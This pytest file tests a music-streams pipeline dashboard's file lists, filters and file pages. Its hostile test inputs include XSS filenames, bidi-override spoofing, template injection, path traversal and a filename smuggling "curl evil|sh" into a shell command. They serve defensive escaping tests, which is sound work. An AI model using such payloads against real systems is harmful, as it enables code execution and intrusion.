"""Lists of files, and the page of a file."""

import html
import json
import re
import shlex

import pytest

from music_streams.reconcile.findings import Findings, Window
from music_streams.reconcile.reports import Report
from tests.dashboard.conftest import TODAY, ago

HOSTILE = [
    "incoming/<script>alert(1)<script>.csv",
    'incoming/"onmouseover="alert(1)" x=\'.csv',
    "incoming/\u202egnp.exe\u2066\x7f.csv",
    "incoming/{{ 7331 * 7331 }}</title>.csv",
    "incoming/" + "長" * 338 + ".csv",
    "incoming/ .csv",
]


def test_pages_of_a_list_show_every_file_once_most_recent_change_first(pipeline, browser):
    sources = [pipeline.put(f"incoming/{n}.csv", "ARCHIVED" if n % 2 else "FAILED", ago(n)) for n in range(120)]
    pages = [browser.get(f"/files?page={number}") for number in (1, 2, 3)]
    assert [len(page.lines) for page in pages] == [50, 50, 20]
    listed = [line.removeprefix("/music-streams/files/") for page in pages for line in page.lines]
    assert listed == [source.source_id for source in sources]
    assert "/music-streams/files?page=2" in pages[0].links
    assert not any("page=4" in link for link in pages[2].links)


def test_a_list_shows_the_files_that_match_its_filters(pipeline, browser):
    wanted = pipeline.put("incoming/a.csv", "FAILED", ago(10), reason="object_gone")
    pipeline.put("incoming/b.csv", "FAILED", ago(10), reason="no_reference_data")
    pipeline.put("incoming/c.csv", "ARCHIVED", ago(10))
    earlier = pipeline.put("incoming/d.csv", "ARCHIVED", "2026-11-20T10:00:00.000Z", updated_at=ago(5))
    rejected = pipeline.put("incoming/e.csv", "ARCHIVED", "2026-11-19T10:00:00.000Z", rejected={"duplicate": 2})
    landed = pipeline.land("incoming/f.csv")

    def listed(query):
        return [line.rsplit("/", 1)[1] for line in browser.get(f"/files?{query}").lines]

    assert listed("status=FAILED&reason=object_gone") == [wanted.source_id]
    assert listed("status=LANDED") == [landed.source_id]
    assert listed("day=2026-11-20") == [earlier.source_id]
    assert listed("reason=duplicate") == [rejected.source_id]
    assert listed("reason=%22%20OR%201") == []
    assert len(listed("state=&status=&reason=&day=")) == 6
    assert len(listed("status=FAILED&status=LANDED")) == 3


def test_the_list_of_a_day_has_streams_files_only(pipeline, browser):
    pipeline.put("reference/songs/songs.csv", "ARCHIVED", ago(10))
    assert browser.get(f"/files?day={TODAY}").lines == []


def test_the_rows_of_a_reference_file_are_shown_and_why_it_is_not_read(pipeline, browser):
    counts = {"rows_read": 1_005, "rows_accepted": 1_000, "rejected": {"bad_duration": 5}, "published_at": ago(9)}
    source = pipeline.put("reference/songs/s.csv", "ARCHIVED", ago(10), **counts, left_out="it is <archived>")
    assert "1,005 = 1,000 + 5" in browser.get("/files").text
    page = browser.get(f"/files/{source.source_id}").text
    assert "read 1,005 = accepted 1,000 + rejected 5" in page
    assert "5 bad_duration" in page
    assert "Not read" in page
    assert "it is <archived>" in page
    assert "Days" not in page.split()


@pytest.mark.parametrize(
    "query", ["status=GONE", "state=nowhere", "day=today", "page=0", "page=1000", "reason=" + "x" * 1001]
)
def test_an_invalid_filter_is_rejected(browser, query):
    assert "Invalid address" in browser.get(f"/files?{query}", status=422).text


def test_an_empty_list_links_to_all_files(browser):
    page = browser.get("/files?status=RETRACTED")
    assert "No files match." in page.text
    assert "/music-streams/files" in page.links


@pytest.mark.parametrize("key", HOSTILE)
@pytest.mark.parametrize("status", ["FAILED", "LANDED"])
def test_hostile_names_are_shown_and_escaped(pipeline, browser, key, status):
    source = pipeline.land(key) if status == "LANDED" else pipeline.put(key, status, ago(30), reason=key)
    if status == "FAILED":
        findings = Findings(Window(TODAY, TODAY, key), ago(5), {"OK": 1}, [], [])
        pipeline.reports.write(Report("20261122T140000000Z", key, False, findings, None))
    own = f"/files/{source.source_id}"
    for address in ("/", "/files", own):
        page = browser.get(address)
        scripts = [script for script in page.all("script") if "src" not in script]
        assert all(script == {"type": "application/json"} for script in scripts)
        names = {name for _, attributes in page.tags for name in attributes}
        assert not [name for name in names if name.startswith("on") or name == "style"]
        shown = page.text + "".join(attributes.get("title", "") for _, attributes in page.tags)
        assert not {"\u202e", "\u2066", "\x7f"} & set(shown)
        assert str(7331 * 7331) not in shown, "a name was rendered as a template"
        assert all(link.startswith("/") for link in page.links)
    button = browser.get(own).all("button")[0]
    assert json.loads(button["data-conf"]) == {"prefix": key}


def test_the_page_of_a_file_shows_its_lineage_in_order(pipeline, browser):
    moves = {"validated_at": ago(99), "started_at": ago(98), "published_at": ago(95), "archived_at": ago(94)}
    arn = f"arn:aws:states:eu-west-1:123456789012:execution:process-streams:{'b' * 32}-1"
    run = {"batch_id": "b" * 32, "execution_arn": arn, "archive_key": "archive/2026/11/22/x/good.csv"}
    rows = {"rows_read": 100, "rows_accepted": 97, "rejected": {"duplicate": 3}}
    costs = {"cost_micro_usd": 15_123, "total_cost_micro_usd": 45_678}
    days = [f"2024-06-{day:02}" for day in range(1, 31)] + ["2024-07-01", "2024-07-02", "2024-07-03"]
    source = pipeline.put("incoming/good.csv", "ARCHIVED", ago(100), **moves, **run, **rows, **costs, days=days)
    page = browser.get(f"/files/{source.source_id}")
    order = ["next", "object", "validation", "attempts", "execution", "rows", "items", "location"]
    assert page.sections == order
    assert "read 100 = accepted 97 + rejected 3" in page.text
    assert "3 duplicate" in page.text
    assert "$0.0151" in page.text
    assert "$0.0457 with earlier runs" in page.text
    assert "and 2 more" in page.text
    assert page.text.count("DAY#") == 31, "each day is a query"
    assert "s3://landing/archive/2026/11/22/x/good.csv" in page.text
    assert "object not found" in page.text
    assert page.all("button") == [], "a finished file needs no repair"


def test_the_page_of_a_quarantined_file_shows_reason_and_next_step(pipeline, browser):
    verdict, kept = "missing_columns", "quarantine/x/bad.csv"
    source = pipeline.put("incoming/bad.csv", "QUARANTINED", ago(9), reason=verdict, archive_key=kept)
    reason = {"verdict": verdict, "detail": "the header row lacks: track_id", "what_to_do": "write the header row"}
    pipeline.stack.s3.put_object(Bucket="landing", Key="quarantine/x/reason.json", Body=json.dumps(reason))
    text = browser.get(f"/files/{source.source_id}").text
    assert "the header row lacks: track_id" in text
    assert "upload a fixed file: music-streams put FIXED.csv --key bad.csv" in text


def test_a_command_that_cannot_be_shown_unchanged_is_not_shown(pipeline, browser):
    source = pipeline.put("incoming/\u202ebad.csv", "QUARANTINED", ago(9), reason="missing_columns")
    assert "music-streams put FIXED.csv" not in browser.get(f"/files/{source.source_id}").text


def test_a_command_to_copy_quotes_a_hostile_name(pipeline, browser):
    name = "x   '; curl evil|sh   '.csv"
    source = pipeline.put(f"incoming/{name}", "QUARANTINED", ago(9), reason="missing_columns")
    page = browser.get(f"/files/{source.source_id}")
    [command, _] = re.findall(r"<code>(music-streams .*?)</code>", page.html)
    assert shlex.split(html.unescape(command)) == ["music-streams", "put", "FIXED.csv", "--key", name]


@pytest.mark.parametrize(
    ("status", "reason", "buttons"),
    [("FAILED", "timed out", 1), ("FAILED", "object_gone", 0), ("RUNNING", "", 1), ("RETRACTED", "", 0)],
)
def test_a_reconciliation_is_offered_only_if_it_may_help(pipeline, browser, status, reason, buttons):
    source = pipeline.put("incoming/a.csv", status, ago(9), reason=reason)
    assert len(browser.get(f"/files/{source.source_id}").all("button")) == buttons


@pytest.mark.parametrize(
    ("source_id", "status"), [("0" * 32, 404), ("..%2f..%2fetc", 404), ("0" * 31, 422), ("G" * 32, 422)]
)
def test_an_unknown_file_is_rejected(browser, source_id, status):
    browser.get(f"/files/{source_id}", status=status)
